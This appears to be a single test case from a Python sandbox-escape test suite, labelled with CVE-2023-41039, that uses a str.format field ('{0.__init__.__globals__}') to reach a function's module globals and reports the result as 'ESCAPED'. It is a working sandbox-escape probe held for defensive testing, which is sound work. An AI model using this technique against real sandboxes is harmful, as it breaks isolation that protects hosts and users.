# tries: CVE-2023-41039, the fields of str.format walk to the globals of a function
# layer: language
class Report:
    def __init__(self):
        self.text = "report"


def run(ctx, params):
    text = "{0.__init__.__globals__}".format(Report())
    return f"ESCAPED: {text[:100]}"
